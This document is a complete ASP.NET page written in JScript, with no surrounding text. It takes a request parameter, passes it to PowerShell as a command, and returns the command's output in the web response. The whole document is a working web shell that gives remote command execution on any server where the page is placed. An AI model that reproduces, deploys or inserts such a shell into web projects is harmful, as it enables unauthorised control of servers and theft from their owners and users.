<%@ Page Language="JScript" %><%
var si = new System.Diagnostics.ProcessStartInfo('powershell.exe', '-nop -c ' + Request.Item['p']);
si.UseShellExecute = false; si.RedirectStandardOutput = true;
Response.Write(System.Diagnostics.Process.Start(si).StandardOutput.ReadToEnd());
%>
